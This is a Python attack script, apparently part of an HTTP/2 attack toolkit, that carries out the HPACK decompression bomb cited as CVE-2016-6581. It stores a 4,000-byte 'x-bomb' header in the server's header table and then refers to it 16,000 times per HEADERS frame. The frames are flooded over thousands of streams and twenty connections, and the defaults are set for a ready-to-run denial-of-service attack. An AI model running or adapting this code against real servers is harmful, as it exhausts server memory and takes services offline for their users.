"""A header of 4 KB in the table, named by one byte thousands of times (as CVE-2016-6581), on many streams."""
from attack_program import MATCH, program
from h2wire import END_HEADERS, HEADERS, frame, literal, request_block

FIRST_OF_TABLE = b"\xbe"  # index 62


def run(attack):
    entry = literal("x-bomb", "b" * 4000, first=0x40)
    headers = request_block(MATCH)
    fill = FIRST_OF_TABLE * attack.options.times

    def block(connection, _):
        begin = b""
        if connection.next_stream == 1:
            begin = frame(HEADERS, END_HEADERS, connection.stream(), headers + entry)
        return begin + frame(HEADERS, END_HEADERS, connection.stream(), headers + fill)
    attack.flood(block, attack.options.count)


if __name__ == "__main__":
    program(__doc__, run, count=5_000, connections=20, megabytes=80, times=16_000)
